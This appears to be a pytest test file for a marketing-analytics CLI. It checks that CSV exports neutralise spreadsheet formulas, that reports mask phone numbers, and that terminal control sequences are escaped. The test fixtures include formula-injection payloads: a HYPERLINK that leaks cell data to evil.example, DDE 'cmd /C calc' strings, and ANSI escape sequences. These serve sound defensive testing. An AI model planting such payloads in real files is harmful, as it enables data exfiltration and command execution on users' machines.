"""What afterclick writes is safe to open: CSV exports run no spreadsheet formulas, the report shows
no phone numbers, the terminal gets no control sequences or Rich markup from the data, and Ctrl-C
at start-up is one line, not a traceback (issue 14, cases 14 to 18).

Everything runs through the real command line on real files.
"""

from __future__ import annotations

import csv
import json
import os
import re
import signal
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

from afterclick.cli import app
from afterclick.export import FORMULA_STARTS, write_csv
from tinyworld import frames

runner = CliRunner()

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FORMULAS = (HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "\r=1+1")
NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def cli(*args: str, ok: bool = True):
    result = runner.invoke(app, list(args))
    if ok:
        assert result.exit_code == 0, result.output
    return result


def csv_cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


def formula_cells(path: Path) -> list[str]:
    """Cells a spreadsheet would run: text starting with = + - @, tab or CR that is not a number."""
    return [c for c in csv_cells(path) if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)]


def assert_neutralised(safe: Path, raw: Path) -> None:
    """``safe`` holds the cells of ``raw``, each formula led by a ', and no formula of its own."""
    raw_cells = csv_cells(raw)
    assert formula_cells(raw)  # the data did bring formulas
    assert not formula_cells(safe)
    expected = ["'" + c if c in formula_cells(raw) else c for c in raw_cells]
    assert sorted(csv_cells(safe)) == sorted(expected)


def ingest_frames(folder: Path, tables: dict[str, pd.DataFrame]) -> Path:
    src = folder / "src"
    src.mkdir(parents=True, exist_ok=True)
    for name, df in tables.items():
        df.to_csv(src / f"{name}.csv", index=False)
    store = folder / "brand.duckdb"
    cli("ingest", str(src), "--store", str(store))
    return store


# ------------------------------------------------------------------------- 14: formulas in CSV


@pytest.fixture(scope="module")
def formula_store(tmp_path_factory):
    """The tiny brand with spreadsheet formulas as campaign names, channels and comments."""
    fr = frames()
    fr["campaigns"]["name"] = [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0"]
    fr["events"]["channel"] = fr["events"]["channel"].replace({"email": "+1+1", "display": "-2+3"})
    fr["responses"]["comment"] = fr["responses"]["comment"].fillna("=1+1")
    return ingest_frames(tmp_path_factory.mktemp("formulas"), fr)


def test_kpis_csv_neutralises_formulas_unless_raw(formula_store, tmp_path):
    cli("kpis", "--store", str(formula_store), "--no-snapshot", "--format", "csv", "--out", str(tmp_path / "safe"))
    cli("kpis", "--store", str(formula_store), "--no-snapshot", "--format", "csv", "--out", str(tmp_path / "raw"),
        "--raw")
    safe, raw = sorted((tmp_path / "safe").glob("*.csv")), sorted((tmp_path / "raw").glob("*.csv"))
    assert [p.name for p in safe] == [p.name for p in raw]
    for s, r in zip(safe, raw, strict=True):
        if formula_cells(r):
            assert_neutralised(s, r)
    assert not [c for p in safe for c in formula_cells(p)]
    assert any(c == "'" + HYPERLINK for p in safe for c in csv_cells(p))
    assert any(c == HYPERLINK for p in raw for c in csv_cells(p))  # --raw writes them as stored
    # numbers, negative ones included, read back as the same numbers
    for s, r in zip(safe, raw, strict=True):
        a, b = pd.read_csv(s), pd.read_csv(r)
        numeric = b.select_dtypes("number").columns
        pd.testing.assert_frame_equal(a[numeric], b[numeric])


def test_quarantine_export_neutralises_formulas(tmp_path):
    src = tmp_path / "src"
    src.mkdir()
    quoted = '"' + HYPERLINK.replace('"', '""') + '"'
    (src / "events.csv").write_text(
        "customer_id,ts,event\nc1,2025-01-01T00:00:00Z,visit\n"
        f"{quoted},not a time,visit\n"  # quarantined with its fields as JSON
        "@SUM(A1:A9),2025-01-01T00:00:00Z,visit,one field too many\n"  # with the line as written
        "=1+2+cmd|' /C calc'!A0,2025-01-01T00:00:00Z,visit,x\n", encoding="utf-8")
    store = tmp_path / "q.duckdb"
    cli("ingest", str(src), "--store", str(store))
    cli("quarantine", "--store", str(store), "--out", str(tmp_path / "q.csv"))
    cli("quarantine", "--store", str(store), "--out", str(tmp_path / "q-raw.csv"), "--raw")
    assert_neutralised(tmp_path / "q.csv", tmp_path / "q-raw.csv")
    assert any(c.startswith("'@SUM(A1:A9),") for c in csv_cells(tmp_path / "q.csv"))


def test_attribution_export_neutralises_formulas(tmp_path):
    paths = tmp_path / "paths.csv"
    pd.DataFrame({
        "path": [f"{HYPERLINK} > email", "@SUM(1+1) > email", "email", "-2+3 > @SUM(1+1)"],
        "total_conversions": [3, 2, 4, 1],
        "total_conversion_value": [30.0, 20.0, 40.0, 10.0],
        "total_null": [5, 6, 7, 8],
    }).to_csv(paths, index=False)
    cli("attribution", str(paths), "--out", str(tmp_path / "a.csv"))
    cli("attribution", str(paths), "--out", str(tmp_path / "a-raw.csv"), "--raw")
    assert set(formula_cells(tmp_path / "a-raw.csv")) == {HYPERLINK, "@SUM(1+1)", "-2+3"}
    assert_neutralised(tmp_path / "a.csv", tmp_path / "a-raw.csv")
    assert "'" + HYPERLINK in csv_cells(tmp_path / "a.csv")


def test_clv_export_neutralises_formulas(tmp_path):
    rng = np.random.default_rng(3)
    rows = []
    for i in range(120):
        customer = FORMULAS[i % len(FORMULAS)] + f" #{i}" if i < 12 else f"c{i}"
        for k in range(1 + rng.poisson(2)):
            day = int(rng.integers(0, 360)) if k else int(rng.integers(0, 120))
            rows.append((f"o{i}-{k}", customer, pd.Timestamp("2025-01-01", tz="UTC") + pd.Timedelta(days=day),
                         round(float(rng.gamma(4, 10)), 2)))
    tx = pd.DataFrame(rows, columns=["order_id", "customer_id", "ts", "amount"])
    customers = pd.DataFrame({"customer_id": tx.customer_id.unique()})
    customers["segment"] = ["=1+1" if i % 2 else "@seg" for i in range(len(customers))]
    store = ingest_frames(tmp_path, {"transactions": tx, "customers": customers})
    out = tmp_path / "clv.csv"
    result = cli("clv", "--store", str(store), "--out", str(out))
    assert "wrote" in result.output
    cli("clv", "--store", str(store), "--out", str(tmp_path / "clv-raw.csv"), "--raw")
    assert len(formula_cells(tmp_path / "clv-raw.csv")) >= 10
    assert_neutralised(out, tmp_path / "clv-raw.csv")
    safe, raw = pd.read_csv(out), pd.read_csv(tmp_path / "clv-raw.csv")
    numeric = raw.select_dtypes("number").columns
    assert len(numeric) >= 5
    pd.testing.assert_frame_equal(safe[numeric], raw[numeric])


def test_only_text_is_prefixed_and_negative_numbers_stay_numbers(tmp_path):
    df = pd.DataFrame({"change": [-3.5, 2.0], "note": ["-12", "-x"], "=col": ["\t=1", "@a"]})
    before = df.copy()
    path = write_csv(df, tmp_path / "n.csv")
    with path.open(newline="", encoding="utf-8") as f:
        assert list(csv.reader(f)) == [["change", "note", "'=col"], ["-3.5", "-12", "'\t=1"], ["2.0", "'-x", "'@a"]]
    pd.testing.assert_frame_equal(df, before)  # the caller's frame is left as it was


# --------------------------------------------------------------------- 15: phones in the report


class _Everything(HTMLParser):
    """Every text node, attribute value and string inside JSON script blocks of a page."""

    def __init__(self):
        super().__init__()
        self.strings: list[str] = []
        self._json = self._code = False
        self.json_blocks = 0

    def handle_starttag(self, tag, attrs):
        self.strings += [v for _, v in attrs if v]
        self._json = tag == "script" and dict(attrs).get("type") == "application/json"
        self._code = tag in ("script", "style") and not self._json  # plotly.js and the CSS are ours

    def handle_endtag(self, tag):
        self._json = self._code = False

    def handle_data(self, data):
        if self._code:
            return
        if self._json:
            self.json_blocks += 1
            self.strings += list(_json_strings(json.loads(data)))
        else:
            self.strings.append(data)


def _json_strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield str(k)
            yield from _json_strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _json_strings(v)


def test_report_masks_phone_links_in_text_attributes_and_chart_data(tmp_path):
    fr = frames()
    fr["campaigns"]["name"] = ["Call tel:+442079460958", "Ring tel:020-7946-0959 today"]
    fr["events"]["channel"] = fr["events"]["channel"].replace({"social": "tel:+442079460957"})
    fr["responses"]["comment"] = fr["responses"]["comment"].fillna("callto:+44-20-7946-0956 please")
    fr["messages"]["text"] = fr["messages"]["text"] + " tel:+44%2020%207946%200955"
    store = ingest_frames(tmp_path, fr)
    out = tmp_path / "r.html"
    cli("report", "--store", str(store), "--out", str(out))
    page = _Everything()
    page.feed(out.read_text(encoding="utf-8"))
    assert page.json_blocks > 0
    leaked = [s for s in page.strings if "7946" in s or re.search(r"20\D{0,3}7946", s)]
    assert not leaked
    # the names did reach the report, masked, in tables and in the charts' hover data alike
    assert sum("Call tel:[phone]" in s for s in page.strings) >= 2


# ------------------------------------------------------------------ 16: control characters


CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e", "\u2066")


def test_ingest_summary_and_quarantine_escape_terminal_controls(tmp_path):
    src = tmp_path / "src"
    src.mkdir()
    (src / "events.csv").write_text(
        "customer_id,ts,event,\x1b[2Jwipe\n"
        "c1,2025-01-01T00:00:00Z,\x1b]0;pwned\x07,1\n"
        "c2,2025-01-02T00:00:00Z,\u202eevil,1\n"
        "c3,\x1b[31mnot a time,visit,1\n"
        "\x1b[31mc4,2025-01-03T00:00:00Z,visit,1,one field too many\n", encoding="utf-8")
    (src / "notes\x1b[31m\u2066.csv").write_text("a\n1\n", encoding="utf-8")
    store = tmp_path / "s.duckdb"
    result = cli("ingest", str(src), "--store", str(store))
    assert not [c for c in CONTROLS if c in result.output]
    for shown in ("\\x1b]0;pwned\\x07", "\\u202eevil", "\\x1b[2Jwipe", "notes\\x1b[31m\\u2066.csv"):
        assert shown in result.output, shown
    q = cli("quarantine", "--store", str(store))
    assert not [c for c in CONTROLS if c in q.output] and "\\x1b" in q.output


def test_kpis_json_on_stdout_escapes_terminal_controls_and_reads_back_the_same(tmp_path):
    fr = frames()
    fr["campaigns"]["name"] = ["Flash\x9b2J\x7f", "\u202eGuides\u2069"]
    store = ingest_frames(tmp_path, fr)
    result = cli("kpis", "--store", str(store), "--no-snapshot", "--format", "json")
    assert not [c for c in (*CONTROLS, "\x7f") if c in result.stdout]
    names = {row.get("name") for r in json.loads(result.stdout) for row in (r.get("rows") or [])}
    assert {"Flash\x9b2J\x7f", "\u202eGuides\u2069"} <= names


def test_errors_escape_terminal_controls(tmp_path):
    missing = tmp_path / "gone\x1b[31m\u202e" / "s.duckdb"
    result = cli("kpis", "--store", str(missing), ok=False)
    assert result.exit_code == 1
    assert "\x1b" not in result.output and "\u202e" not in result.output
    assert "gone\\x1b[31m\\u202e" in result.output


# --------------------------------------------------------------------------- 17: Rich markup


def test_brackets_in_paths_and_values_are_printed_as_written(tmp_path):
    odd = tmp_path / "x[" / "b][bold red]y"  # the path reads x[/b][bold red]y
    odd.mkdir(parents=True)
    missing = cli("kpis", "--store", str(odd / "none.duckdb"), ok=False)
    assert missing.exit_code == 1
    assert f"no store at {odd / 'none.duckdb'}" in missing.output

    src = odd / "src"
    src.mkdir()
    (src / "events.csv").write_text("customer_id,ts,event\nc1,2025-01-01T00:00:00Z,[/b]\n", encoding="utf-8")
    (src / "[red]notes.csv").write_text("a\n1\n", encoding="utf-8")
    store = odd / "s.duckdb"
    ingested = cli("ingest", str(src), "--store", str(store))
    assert "[red]notes.csv" in ingested.output and "[/b] (1)" in ingested.output
    report = cli("report", "--store", str(store), "--out", str(odd / "r.html"))
    assert f"report written to {odd / 'r.html'}" in report.output.replace("\n", "")


def test_mapping_errors_keep_their_section_names(tmp_path):
    src = tmp_path / "src"
    src.mkdir()
    (src / "events.csv").write_text("customer_id,ts,event\nc1,2025-01-01T00:00:00Z,visit\n", encoding="utf-8")
    mapping = tmp_path / "map.toml"
    mapping.write_text("[events]\nbogus = 1\n", encoding="utf-8")
    result = cli("ingest", str(src), "--store", str(tmp_path / "s.duckdb"), "--mapping", str(mapping), ok=False)
    assert result.exit_code == 1
    assert "[events] has unknown setting 'bogus'" in result.output


# ------------------------------------------------------------------- 18: Ctrl-C at start-up


def _launchers() -> list[list[str]]:
    script = Path(sys.executable).with_name("afterclick")
    return [[str(script)], [sys.executable, "-m", "afterclick"]]


@pytest.mark.skipif(sys.platform != "linux", reason="watches the process's memory map in /proc")
@pytest.mark.parametrize("launcher", _launchers(), ids=["command", "python -m"])
def test_ctrl_c_while_the_engine_loads_is_one_line(launcher, formula_store):
    if not Path(launcher[0]).exists():
        pytest.fail(f"{launcher[0]} is missing: install the package (pip install -e .)")
    proc = subprocess.Popen([*launcher, "kpis", "--store", str(formula_store), "--no-snapshot", "--format", "json"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            env={**os.environ, "PYTHONWARNINGS": "ignore"})
    # NumPy's core library is mapped while Ibis, pandas and DuckDB load, before any command runs
    maps = Path(f"/proc/{proc.pid}/maps")
    while proc.poll() is None and "_multiarray_umath" not in maps.read_text():
        pass
    proc.send_signal(signal.SIGINT)
    out, err = proc.communicate(timeout=300)
    assert "Traceback" not in err
    assert err == "error: interrupted; the store is as it was before this command\n"
    assert proc.returncode == 130 and out == ""
